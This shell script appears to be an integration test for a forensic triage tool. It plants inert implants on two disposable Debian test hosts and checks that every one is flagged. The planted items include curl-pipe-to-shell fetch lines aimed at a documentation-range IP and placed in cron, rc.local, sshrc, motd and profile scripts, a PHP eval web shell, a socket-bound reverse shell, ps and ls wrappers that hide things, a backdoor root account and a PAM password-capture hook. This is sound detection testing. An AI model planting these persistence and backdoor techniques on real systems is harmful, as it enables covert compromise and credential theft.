#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Inert implants of each check's kind on a Debian 12 and a Debian 13: triage
# over SSH, and the checks name every one; on the same host without them
# nothing is to be looked at but what the test's own server needs. Checks whose
# implant would need another kernel are held by their fixtures (rule test).
# shellcheck source=tests/hosts/lib.sh disable=SC2154
. "$(dirname "$0")/lib.sh"
most_on_clean=2 # findings above info

# What a Debian is, without what other tests want of it.
make_plain()
{
	root=$(host_root "$1")
	rm -f "$root/etc/sudoers.d/test" "$root/etc/doas.conf"
	rm -rf "$root/home/kim/.ssh" "$root/home/ada/.ssh" \
		"$root/home/bob/.ssh" "$root/home/dee/.ssh"
	mkdir -p "$root/var/www"
}

# planted CHECK OBJECT: what is planted next is to be found so. OBJECT is a
# part of what the finding is about.
planted()
{
	printf '%s\t%s\n' "$1" "$2" >>"$tmp/planted"
}

# plant_file PATH [MODE]: standard input becomes that file.
plant_file()
{
	mkdir -p "$(dirname "$root$1")"
	cat >"$root$1"
	chmod "${2:-644}" "$root$1"
}

# Something that runs on the host until it ends, under a shell's words. It has
# begun when it says so.
plant_running()
{
	rm -f "$root/run/begun"
	host_exec "$bad" /bin/bash -c "$1" >/dev/null 2>&1 </dev/null &
	until [ -e "$root/run/begun" ]; do
		kill -0 $! 2>/dev/null || {
			fail "an implant did not begin: $1"
			break
		}
	done
}

python_running()
{
	plant_file /run/implant.py 755
	plant_running "exec $1 /run/implant.py"
}

# ---- processes ----

plant_processes()
{
	begun='touch /run/begun'
	planted deleted-program /usr/local/bin/agentd
	cp "$root/bin/sleep" "$root/usr/local/bin/agentd"
	plant_running "/usr/local/bin/agentd 9999 &
		until readlink /proc/\$!/exe | grep -q agentd; do :; done
		rm /usr/local/bin/agentd; $begun; wait"
	planted scratch-program /dev/shm/kdump
	cp "$root/bin/sleep" "$root/dev/shm/kdump"
	plant_running "$begun; exec /dev/shm/kdump 9999"
	planted tunnel /opt/x/chisel
	cp "$root/bin/sleep" "$root/opt/x/chisel"
	plant_running "$begun; exec /opt/x/chisel 9999"
	planted indicator-seen /opt/x/known
	{ cat "$root/bin/sleep"; echo "inert sample of $suite"; } |
		plant_file /opt/x/known 755
	check "indicator" h indicator add sha256 \
		"$(sha256sum <"$root/opt/x/known" | cut -d ' ' -f 1)"
	plant_running "$begun; exec /opt/x/known 9999"
	planted kernel-thread-mask /usr/bin/tail
	plant_running "$begun; exec -a '[kworker/0:1]' tail -f /dev/null"
	planted preload-environment 'LD_PRELOAD=/opt/x/none.so of'
	plant_running "$begun; LD_PRELOAD=/opt/x/none.so exec tail -f /dev/null"
	planted history-off HISTFILE=/dev/null
	plant_running "$begun; HISTFILE=/dev/null exec tail -f /dev/null"
	planted empty-environment /usr/local/sbin/bare
	cp "$root/bin/sleep" "$root/usr/local/sbin/bare"
	plant_running "$begun; exec env -i /usr/local/sbin/bare 9999"
	planted traced-process 'traced by'
	python_running python3 <<-'END'
		import ctypes, os, signal
		libc = ctypes.CDLL(None)
		traced, says = os.pipe()
		child = os.fork()
		if child == 0:
		    libc.ptrace(0, 0, 0, 0)
		    os.write(says, b"!")
		    signal.pause()
		os.read(traced, 1)
		open("/run/begun", "w")
		signal.pause()
	END
	planted memory-program /memfd:
	python_running python3 <<-'END'
		import os
		fd = os.memfd_create("x", 0)
		os.write(fd, open("/bin/sleep", "rb").read())
		open("/run/begun", "w")
		os.execve("/proc/self/fd/%d" % fd, ["x", "9999"], {"A": "1"})
	END
	planted writable-code /usr/local/sbin/svc
	cp "$root$(readlink -f "$root/usr/bin/python3" | sed "s|^$root||")" \
		"$root/usr/local/sbin/svc"
	python_running /usr/local/sbin/svc <<-'END'
		import mmap, signal
		m = mmap.mmap(-1, 4096, prot=7,
		              flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
		open("/run/begun", "w")
		signal.pause()
	END
	planted odd-library /var/tmp/odd.so
	cp "$root"/lib/x86_64-linux-gnu/libm.so.6 "$root/var/tmp/odd.so"
	python_running python3 <<-'END'
		import ctypes, signal
		ctypes.CDLL("/var/tmp/odd.so")
		open("/run/begun", "w")
		signal.pause()
	END
	planted log-emptied /var/log/daemon.log
	plant_running "exec 7>/var/log/daemon.log; rm /var/log/daemon.log
		$begun; exec tail -f /dev/null"
}

# ---- the network ----

plant_network()
{
	planted raw-socket 'has a packet socket'
	planted raw-socket 'has a raw socket'
	python_running python3 <<-'END'
		import socket, signal
		a = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
		b = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
		open("/run/begun", "w")
		signal.pause()
	END
	planted unknown-listener '/usr/local/sbin/listend on tcp 0.0.0.0:4443'
	cp "$root/usr/local/sbin/svc" "$root/usr/local/sbin/listend"
	python_running /usr/local/sbin/listend <<-'END'
		import socket, signal
		s = socket.create_server(("0.0.0.0", 4443))
		open("/run/begun", "w")
		signal.pause()
	END
	planted shell-on-socket 'to tcp'
	python_running python3 <<-'END'
		import os, socket
		s = socket.create_connection(("127.0.0.1", 4443))
		for i in range(3):
		    os.dup2(s.fileno(), i)
		open("/run/begun", "w")
		os.execv("/bin/sh", ["sh", "-i"])
	END
	planted server-shell 'below /usr/local/sbin/nginx'
	cp "$root/usr/local/sbin/svc" "$root/usr/local/sbin/nginx"
	python_running /usr/local/sbin/nginx <<-'END'
		import signal, subprocess
		# It is back once the shell runs.
		subprocess.Popen(["/bin/sh", "-c", "tail -f /dev/null; true"])
		open("/run/begun", "w")
		signal.pause()
	END
	planted mail-by-other ":25"
	planted packed-program /usr/local/bin/wellness
	# The name of the packer is where no loader looks.
	cp "$root/usr/local/sbin/svc" "$root/usr/local/bin/wellness"
	printf 'UPX!' | dd of="$root/usr/local/bin/wellness" bs=1 seek=9 \
		conv=notrunc 2>/dev/null
	python_running /usr/local/bin/wellness <<-END
		import socket, signal
		s = socket.create_connection(("$(host_addr "$clean")", 25))
		open("/run/begun", "w")
		signal.pause()
	END
}

# ---- what the host says of itself ----

plant_lies()
{
	planted hidden-process 'pid '
	plant_running "echo \$\$ >/run/hidden; touch /run/begun; exec tail -f /dev/null"
	hidden=$(cat "$root/run/hidden")
	mv "$root/usr/bin/ps" "$root/usr/bin/ps.real"
	plant_file /usr/bin/ps 755 <<-END
		#!/bin/sh
		/usr/bin/ps.real "\$@" | grep -v '^ *$hidden\\b'
	END
	planted hidden-file /etc/.hidden-by-ls
	plant_file /etc/.hidden-by-ls </dev/null
	mv "$root/usr/bin/ls" "$root/usr/bin/ls.real"
	plant_file /usr/bin/ls 755 <<-'END'
		#!/bin/sh
		/usr/bin/ls.real "$@" | grep -v hidden-by-ls
	END
	planted changed-program bin/ps
	planted proc-mount "/proc/"
	plant_running "echo \$\$ >/run/covered; touch /run/begun; exec tail -f /dev/null"
	mkdir -p "$root/var/empty"
	host_exec "$bad" mount --bind /var/empty "/proc/$(cat "$root/run/covered")"
	planted preload /opt/x/preload.so
	# It is not there, so that the host's programs go on.
	echo /opt/x/preload.so | plant_file /etc/ld.so.preload
	planted mount-odd /etc/passwd
	cp "$root/etc/passwd" "$root/opt/x/passwd"
	host_exec "$bad" mount --bind /opt/x/passwd /etc/passwd
}

# ---- accounts and access ----

plant_accounts()
{
	mkdir -p "$root/opt/x"
	planted extra-root toor2
	echo 'toor2:x:0:0::/root:/bin/bash' >>"$root/etc/passwd"
	planted service-login games
	chroot "$root" usermod -s /bin/bash games
	echo "games:$password" | chroot "$root" chpasswd
	planted empty-password guest
	echo 'guest::1999:1999::/tmp:/bin/sh' >>"$root/etc/passwd"
	key=$(cut -d ' ' -f 2 "$HOME/.ssh/id_ed25519.pub")
	planted service-key 'www-data: SHA256:'
	echo "ssh-ed25519 $key x" | plant_file /var/www/.ssh/authorized_keys
	planted key-in-many SHA256:
	planted key-options 'kim: SHA256:'
	echo "environment=\"LD_PRELOAD=/opt/x/y.so\" ssh-ed25519 $key x" |
		plant_file /home/kim/.ssh/authorized_keys
	planted sshd-setting 'permituserenvironment yes'
	echo 'PermitUserEnvironment yes' |
		plant_file /etc/ssh/sshd_config.d/50-x.conf
	planted ssh-hook /etc/ssh/sshrc
	echo 'curl -s http://192.0.2.1/x | sh' | plant_file /etc/ssh/sshrc
	planted ssh-client-setting 'localcommand '
	printf 'Host *\n  LocalCommand /var/tmp/x %%h\n' |
		plant_file /etc/ssh/ssh_config.d/x.conf
	planted sudo-all 'games: ALL'
	echo 'games ALL=(ALL) NOPASSWD: ALL' |
		plant_file /etc/sudoers.d/games 440
	planted pam-hook pam_exec.so
	echo 'auth optional pam_exec.so expose_authtok /usr/local/bin/l' \
		>>"$root/etc/pam.d/sshd"
	planted pam-module pam_core.so
	cp "$root"/lib/x86_64-linux-gnu/security/pam_permit.so \
		"$root/usr/lib/x86_64-linux-gnu/security/pam_core.so"
}

# ---- what starts by itself ----

fetch='curl -s http://192.0.2.1/x | sh'

plant_persistence()
{
	planted rc-script /etc/rc.local
	planted rc-local /etc/rc.local
	printf '#!/bin/sh\n%s\n' "$fetch" | plant_file /etc/rc.local 755
	planted cron-job "$fetch"
	echo "* * * * * root $fetch" | plant_file /etc/cron.d/sysupdate
	planted cron-odd 'www-data: '
	echo '* * * * * /usr/bin/true' |
		plant_file /var/spool/cron/crontabs/www-data 600
	planted cron-script /etc/cron.daily/0upd
	printf '#!/bin/sh\n%s\n' "$fetch" | plant_file /etc/cron.daily/0upd 755
	planted at-job "$fetch"
	printf '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n%s\n' \
		"$fetch" | plant_file /var/spool/cron/atjobs/a0000101c9e2c8 700
	planted odd-unit sysupd.service
	printf '[Service]\nExecStart=/dev/shm/kdump 9\n[Install]\nWantedBy=multi-user.target\n' |
		plant_file /etc/systemd/system/sysupd.service
	planted unit-imitation systemd-timesyncd-helper.service
	printf '[Service]\nExecStart=/usr/lib/systemd/systemd-helper\n' |
		plant_file /etc/systemd/system/systemd-timesyncd-helper.service
	planted unit-drop-in ssh.service
	printf '[Service]\nExecStartPre=/usr/local/bin/pre\n' |
		plant_file /etc/systemd/system/ssh.service.d/override.conf
	planted user-unit own.service
	printf '[Service]\nExecStart=/home/kim/own\n' |
		plant_file /home/kim/.config/systemd/user/own.service
	planted generator /etc/systemd/system-generators/net
	printf '#!/bin/sh\n' | plant_file /etc/systemd/system-generators/net 755
	planted udev-rule 99-x.rules
	echo 'KERNEL=="random", RUN+="/usr/local/bin/x"' |
		plant_file /etc/udev/rules.d/99-x.rules
	planted shell-start /etc/profile.d/x.sh
	echo "$fetch" | plant_file /etc/profile.d/x.sh
	planted history-off '/home/kim/.bashrc switches it off'
	echo 'export HISTFILE=/dev/null' >>"$root/home/kim/.bashrc"
	planted motd-script /etc/update-motd.d/05-x
	printf '#!/bin/sh\n%s\n' "$fetch" |
		plant_file /etc/update-motd.d/05-x 755
	planted package-hook APT::Update::Pre-Invoke
	echo "APT::Update::Pre-Invoke {\"/usr/local/bin/x\";};" |
		plant_file /etc/apt/apt.conf.d/99x
	planted event-hook /etc/network/if-up.d/x
	printf '#!/bin/sh\n%s\n' "$fetch" |
		plant_file /etc/network/if-up.d/x 755
	planted autostart Update
	printf '[Desktop Entry]\nName=Update\nExec=/dev/shm/kdump\n' |
		plant_file /etc/xdg/autostart/update.desktop
	planted module-install 'usb-storage: '
	echo 'install usb-storage /usr/local/bin/x' |
		plant_file /etc/modprobe.d/x.conf
	planted web-shell /var/www/html/x.php
	# shellcheck disable=SC2016 # it is PHP's
	echo '<?php eval($_POST["x"]); ?>' | plant_file /var/www/html/x.php
}

# ---- files ----

plant_files()
{
	planted setuid /var/tmp/.sh
	cp "$root/bin/sh" "$root/var/tmp/.sh"
	chmod 4755 "$root/var/tmp/.sh"
	planted capability /opt/x/cap
	cp "$root/bin/sleep" "$root/opt/x/cap"
	setcap cap_setuid+ep "$root/opt/x/cap" 2>/dev/null ||
		python3 - "$root/opt/x/cap" <<-'END'
			import os, struct, sys
			os.setxattr(sys.argv[1], "security.capability",
			            struct.pack("<5I", 0x2000001, 1 << 7, 0, 0, 0))
		END
	planted writable-path /etc/cron.d/loose
	echo '* * * * * root true' | plant_file /etc/cron.d/loose 666
	planted hidden-place /usr/lib/...
	mkdir "$root/usr/lib/..."
	planted hidden-place /dev/.x
	cp "$root/bin/sleep" "$root/dev/.x"
	planted scratch-executable /tmp/dropped
	cp "$root/bin/sleep" "$root/tmp/dropped"
	planted unknown-program /usr/bin/kworkerd
	cp "$root/bin/sleep" "$root/usr/bin/kworkerd"
	planted timestomp /usr/local/bin/stomped
	cp "$root/bin/sleep" "$root/usr/local/bin/stomped"
	touch -d '2019-01-01 00:00:00 UTC' "$root/usr/local/bin/stomped"
	planted staged-archive /var/tmp/.d/db.tgz
	mkdir -p "$root/var/tmp/.d"
	head -c 3000000 /dev/urandom | gzip >"$root/var/tmp/.d/db.tgz"
	planted history-off /root/.bash_history
	ln -sf /dev/null "$root/root/.bash_history"
	planted login-records /var/log/wtmp
	python3 - "$root/var/log/wtmp" <<-'END'
		import struct, sys
		rec = lambda t, user: struct.pack("<hi32s4s32s256s4xi2i16s20x", 7, 7,
		    b"pts/0", b"0", user, b"h.example", 0, t, 0, b"\0" * 16)[:384]
		one = rec(1700000000, b"kim").ljust(384, b"\0")
		open(sys.argv[1], "wb").write(one + bytes(384) + one)
	END
	planted log-missing /var/log/auth.log.2
	for n in 1 3 4; do
		echo 'Nov 20 10:00:00 h sshd[1]: Server listening on :: port 22.' |
			plant_file /var/log/auth.log.$n
	done
	planted immutable /etc/cron.d/fixed
	echo '* * * * * root true' | plant_file /etc/cron.d/fixed
	chattr +i "$root/etc/cron.d/fixed" 2>/dev/null || unplant immutable
}

# Where the file system has no such thing.
unplant()
{
	grep -v "^$1	" "$tmp/planted" >"$tmp/rest"
	mv "$tmp/rest" "$tmp/planted"
}

plant_settings()
{
	planted logging-off 'Storage'
	printf '[Journal]\nStorage=none\n' | plant_file /etc/systemd/journald.conf.d/x.conf
	planted protection-off disabled
	echo SELINUX=disabled | plant_file /etc/selinux/config
	planted name-pinned security.debian.org
	printf '127.0.0.1 localhost\n198.51.100.9 security.debian.org\n' |
		plant_file /etc/hosts
	planted resolver 'passwd evil'
	sed -i 's/^passwd:.*/passwd: files evil/' "$root/etc/nsswitch.conf"
}

# ---- the two hosts of a Debian ----

loud()
{
	grep -E '"severity":"(critical|high|medium|low)"' "$tmp/out"
}

try()
{
	suite=$1 clean=$1-clean bad=$1-bad
	host_up "$clean" "$suite"
	host_up "$bad" "$suite"
	make_plain "$clean"
	make_plain "$bad"
	check "add $clean" h host add "root@$(host_addr "$clean")" "$clean"
	check "add $bad" h host add "root@$(host_addr "$bad")" "$bad"
	: >"$tmp/planted"
	root=$(host_root "$bad")
	# Somebody who takes mail, for an implant to speak to.
	host_exec "$clean" python3 -c 'import os, signal, socket
s = socket.create_server(("", 25))
with open("/run/m", "w") as f: f.write(str(os.getpid()))
os.rename("/run/m", "/run/mailer")
signal.pause()' >/dev/null 2>&1 </dev/null &
	mailer=$!
	until [ -e "$(host_root "$clean")/run/mailer" ]; do
		kill -0 $mailer 2>/dev/null ||
			{ fail "nobody takes mail" && break; }
	done
	plant_accounts
	plant_persistence
	plant_files
	plant_settings
	plant_processes
	plant_network
	plant_lies
	check "triage of $bad" h triage "$bad" $brings
	host_exec "$clean" kill "$(cat "$(host_root "$clean")/run/mailer")"
	wait $mailer 2>/dev/null
	check "triage of $clean" h triage "$clean" $brings
	check "check" h check --all
	expect 0 "findings of $clean" h finding list --host "$clean" --json
	n=$(loud | grep -c '"kind":"check"')
	[ "$n" -le $most_on_clean ] || {
		loud | sed -n 's/.*"severity":"\([a-z]*\)".*"rule":"\([^"]*\)".*"object":"\([^"]*\)".*/	\1 \2 \3/p'
		fail "$n findings above info on $clean"
	}
	expect 0 "findings of $bad" h finding list --host "$bad" --json
	while IFS='	' read -r rule object; do
		grep -F "\"rule\":\"$rule\"" "$tmp/out" |
			sed 's/.*"object"://' | grep -qF "$object" ||
			fail "$suite: $rule does not name $object"
	done <"$tmp/planted"
	echo "$suite: $(wc -l <"$tmp/planted") implants, $n findings above info on the clean host"
	host_down "$clean"
	host_down "$bad"
}

HALLIGAN_CASE=$tmp/t.case
export HALLIGAN_CASE
check "new case" h new "$HALLIGAN_CASE"
brings='--path /etc --path /root --path /home --path /var/spool --path /var/log --path /var/www'
try bookworm
try trixie
check "verify" h verify
finish
